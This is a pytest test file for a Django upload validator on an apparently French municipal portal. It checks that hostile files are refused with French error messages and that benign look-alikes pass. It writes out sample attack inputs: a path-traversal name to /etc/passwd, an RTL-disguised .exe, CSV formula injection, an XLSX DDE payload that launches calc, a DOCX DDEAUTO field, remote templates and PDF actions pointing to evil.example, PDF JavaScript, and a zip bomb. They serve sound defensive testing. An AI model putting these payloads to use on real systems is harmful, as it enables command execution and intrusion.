import hashlib
import io
import random
import re
import unicodedata

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from civis.portal.demo import filegen
from documents.validation import MIME_TYPES, UploadRejected, check_upload, sanitize_filename
from tests.documents import hostile

CORPUS = hostile.hostile_corpus()
MB = 1024 * 1024
_FRENCH = re.compile(r"\b(fichier|document|nom|image|PDF|contenu|archive)\b", re.IGNORECASE)


class Trickle(io.BytesIO):
    """A file that hands out a few bytes per read, as slow streams do."""

    def __init__(self, data: bytes, step: int):
        super().__init__(data)
        self.step = step

    def read(self, size: int | None = -1) -> bytes:
        return super().read(self.step if size is None or size < 0 else min(size, self.step))


def _id(entry: tuple[str, bytes, str]) -> str:
    return f"{entry[2]}:{ascii(entry[0])[1:-1] or 'no-name'}"


def test_corpus_is_large_and_distinct():
    assert len(CORPUS) >= 55
    assert len({(name, content) for name, content, _ in CORPUS}) == len(CORPUS)
    assert len({_id(entry) for entry in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize(("name", "content", "code"), CORPUS, ids=[_id(e) for e in CORPUS])
def test_hostile_upload_is_rejected(name, content, code):
    fileobj = io.BytesIO(content)
    with pytest.raises(UploadRejected) as caught:
        check_upload(fileobj, name, max_size=hostile.MAX_SIZE)
    assert caught.value.code == code
    assert caught.value.message == str(caught.value)
    assert _FRENCH.search(caught.value.message) and caught.value.message.endswith(".")
    assert not fileobj.closed and fileobj.tell() == 0


# zipfile and pypdf expect a regular file's full reads; the streaming pass must not.
STREAMED = [
    entry
    for entry in CORPUS
    if not entry[1].startswith(b"PK") and b"/Encrypt" not in entry[1] and b"/ObjStm" not in entry[1]
]


@pytest.mark.parametrize(("name", "content", "code"), STREAMED, ids=[_id(e) for e in STREAMED])
def test_hostile_upload_is_rejected_whatever_the_read_size(name, content, code):
    # Patterns split across reads (/JavaScript, <script, UTF-8 sequences) are still caught.
    with pytest.raises(UploadRejected) as caught:
        check_upload(Trickle(content, 997), name, max_size=hostile.MAX_SIZE)
    assert caught.value.code == code


@pytest.mark.parametrize("step", [1, 3, 64])
def test_pdf_markers_split_across_tiny_reads(step):
    content = hostile._pdf_catalog_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    with pytest.raises(UploadRejected) as caught:
        check_upload(Trickle(content, step), "a.pdf", max_size=MB)
    assert caught.value.code == "active_content"
    assert check_upload(Trickle(hostile.pdf(), step), "a.pdf", max_size=MB).kind == "pdf"


def _accepted() -> list[tuple[str, bytes, str]]:
    rng = random.Random(7)
    return [
        ("Délibération 2026-03.pdf", hostile.pdf(), "pdf"),
        (
            "RAPPORT.PDF",
            filegen.make_pdf("Rapport", filegen.french_paragraphs(rng, 80, "budget")),
            "pdf",
        ),
        ("flux-compresses.pdf", hostile.pdf_with_object_stream(), "pdf"),
        ("restrictions.pdf", hostile.protected_pdf(""), "pdf"),
        ("Compte rendu.odt", hostile.odt(), "odt"),
        ("budget.ods", hostile.ods(), "ods"),
        ("arrêté.docx", hostile.docx(), "docx"),
        ("subventions.xlsx", hostile.xlsx(), "xlsx"),
        ("communes.csv", filegen.make_csv([["commune", "budget"], ["Bègles", "1 200 €"]]), "csv"),
        ("windows.csv", "commune;montant\r\nMérignac;12 €\r\n".encode("cp1252"), "csv"),
        ("notes.txt", "Réunion de l'école, 3 < 5 et 5 > 2.\n".encode(), "txt"),
        ("javascript.txt", b"function f() { return 1; } // du code en texte brut\n", "txt"),
        ("donnees.json", '\ufeff{"commune": "Mérignac", "budget": [1, 2]}'.encode(), "json"),
        ("plan.png", hostile.image("PNG"), "png"),
        ("photo.jpg", hostile.image("JPEG"), "jpeg"),
        ("photo.JPEG", hostile.image("JPEG", (640, 480)), "jpeg"),
        *hostile.accepted_lookalikes(),
    ]


# Named by file name and kind only: some contents (an encrypted PDF's random key) differ
# between test processes, and pytest-xdist needs every process to collect the same ids.
@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [pytest.param(*case, id=f"{case[0]}-{case[2]}") for case in _accepted()],
)
def test_accepted_upload_is_described(name, content, kind):
    fileobj = io.BytesIO(content)
    checked = check_upload(fileobj, name, max_size=50 * MB)
    assert checked.kind == kind
    assert checked.mime_type == MIME_TYPES[kind]
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.name == unicodedata.normalize("NFC", name)
    assert fileobj.tell() == 0 and fileobj.read() == content


def test_every_kind_is_covered_by_accepted_cases():
    assert {kind for _, _, kind in _accepted()} == set(MIME_TYPES)


def test_django_uploaded_files_are_read_and_rewound(tmp_path, settings):
    content = hostile.pdf()
    simple = SimpleUploadedFile("Délibération.pdf", content, "application/pdf")
    assert check_upload(simple, simple.name, max_size=MB).kind == "pdf"
    assert simple.read() == content

    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    temporary = TemporaryUploadedFile("plan.png", "image/png", 0, None)
    temporary.write(hostile.image("PNG"))
    temporary.seek(0)
    assert check_upload(temporary, "plan.png", max_size=MB).kind == "png"
    assert temporary.read(8) == b"\x89PNG\r\n\x1a\n"
    temporary.close()


def test_size_limit_is_given_in_mo():
    with pytest.raises(UploadRejected, match="taille maximale de 50 Mo") as caught:
        check_upload(io.BytesIO(b"x" * (50 * MB + 1)), "gros.txt", max_size=50 * MB)
    assert caught.value.code == "too_large"
    # A declared size (Django's UploadedFile.size) is refused before reading.
    declared = SimpleUploadedFile("gros.pdf", b"%PDF-1.4")
    declared.size = 51 * MB
    with pytest.raises(UploadRejected, match="50 Mo"):
        check_upload(declared, "gros.pdf", max_size=50 * MB)


def test_zip_bomb_ratio_rule_and_legitimate_compression():
    # 11 MB at a ratio of ~1000 is refused even under a generous total limit...
    with pytest.raises(UploadRejected) as caught:
        check_upload(io.BytesIO(hostile.zip_bomb()), "bombe.docx", max_size=50 * MB)
    assert caught.value.code == "zip_bomb"
    # ...while a very compressible but modest entry is fine.
    ok = hostile.docx(extra=[("word/media/blanc.xml", b" " * (5 * MB))])
    assert check_upload(io.BytesIO(ok), "blanc.docx", max_size=50 * MB).kind == "docx"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\agent\\Bureau\\Délibération 2026-03.pdf", "Délibération 2026-03.pdf"),
        ("De\u0301libe\u0301ration.pdf", "Délibération.pdf"),  # NFD from macOS becomes NFC
        ("rapport\u202etxt.exe", "rapporttxt.exe"),  # RTL override removed, the truth shows
        ("rap\u200bport\ufeff.pdf", "rapport.pdf"),
        ("a\x00b\x07c.pdf", "abc.pdf"),
        ("  Compte   rendu\t du\nconseil .pdf ", "Compte rendu du conseil.pdf"),
        ("\u00a0Budget\u2003primitif.ods", "Budget primitif.ods"),
        (".cache.pdf", "cache.pdf"),
        ("rapport.pdf...", "rapport.pdf"),
        ('a<b>:c|d?"e*.pdf', "a_b__c_d__e_.pdf"),
        ("CONSEIL.pdf", "CONSEIL.pdf"),
        ("console.txt", "console.txt"),
        ("archive.tar.gz", "archive.tar.gz"),
    ],
)
def test_sanitize_filename(raw, expected):
    assert sanitize_filename(raw) == expected


def test_sanitize_filename_keeps_the_extension_of_long_names():
    name = sanitize_filename("Délibération " + "très longue " * 30 + ".pdf")
    assert len(name) <= 150 and name.endswith(".pdf") and not name.endswith(" .pdf")
    assert sanitize_filename("é" * 400 + ".jpeg") == "é" * 145 + ".jpeg"


@pytest.mark.parametrize(
    "raw",
    [
        "",
        "....",
        "sans_extension",
        "../../",
        ".pdf",
        "\u202e\u200b.pdf",
        "\x00\x01",
        "CON.pdf",
        "con.tar.gz",
        "Lpt1.txt",
        "AUX .csv",
        "COM9.json",
        "nul",
    ],
)
def test_sanitize_filename_rejects(raw):
    with pytest.raises(UploadRejected) as caught:
        sanitize_filename(raw)
    assert caught.value.code == "bad_name" and "nom" in caught.value.message


def _refusal(content: bytes, name: str) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_upload(io.BytesIO(content), name, max_size=MB)
    return caught.value


def test_every_active_content_case_is_refused_and_its_look_alike_accepted():
    # The corpus above runs each case; this keeps the two lists from shrinking unnoticed.
    assert len(hostile.active_content_corpus()) >= 60
    assert len(hostile.accepted_lookalikes()) >= 15


@pytest.mark.parametrize(
    ("content", "line", "column", "char"),
    [
        (b"commune;montant\nM\xc3\xa9rignac;=1+1\n", 2, 2, "="),
        (b"commune;montant;note\nA;1;ok\nB;2;ok\nC;3;@x\n", 4, 3, "@"),
        (b'commune;montant\nA;"1\n2"\nB;"\t+cmd|x"\n', 4, 2, "+"),
        (b"=1+1;montant\nA;1\n", 1, 1, "="),
    ],
)
def test_csv_formula_refusal_names_the_line_and_column(content, line, column, char):
    refusal = _refusal(content, "donnees.csv")
    assert refusal.code == "active_content"
    assert f"ligne {line}, colonne {column}" in refusal.message
    assert f"« {char} »" in refusal.message and "formule" in refusal.message


def test_csv_formula_refusal_names_the_column_header():
    refusal = _refusal(b"commune;montant\nA;-cmd\n", "donnees.csv")
    assert "« montant »" in refusal.message


def test_a_formula_looking_text_file_is_not_a_spreadsheet():
    text = b"Rappel : =1+1 et @mairie.\n-cmd\n"
    assert check_upload(io.BytesIO(text), "notes.txt", max_size=MB).kind == "txt"


def test_pdf_form_with_javascript_is_told_to_flatten_or_remove_scripts():
    for content in (
        hostile.form_pdf(b"/AA << /K << /S /JavaScript /JS (x) >> >>"),
        hostile.xfa_pdf(),
    ):
        refusal = _refusal(content, "cerfa.pdf")
        assert refusal.code == "active_content"
        assert "JavaScript" in refusal.message and "aplatissez" in refusal.message
    # The same form without scripts is accepted.
    assert check_upload(io.BytesIO(hostile.form_pdf()), "cerfa.pdf", max_size=MB).kind == "pdf"


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (
            hostile.build_pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
            "a.pdf",
            "ouverture",
        ),
        (hostile.docx_simple_field("DDEAUTO cmd"), "a.docx", "DDE"),
        (hostile.docx_template("http://evil.example/m.dotm"), "a.docx", "modèle"),
        (hostile.docx_related("oleObject", "file:///C:/b.xlsx"), "a.docx", "liaison"),
        (hostile.docx(extra=[("word/embeddings/oleObject1.bin", b"x")]), "a.docx", "incorporé"),
        (hostile.xlsx_with("=cmd|'/c calc'!A0"), "a.xlsx", "DDE"),
    ],
)
def test_active_content_messages_say_what_was_found(content, name, words):
    refusal = _refusal(content, name)
    assert refusal.code == "active_content" and words in refusal.message
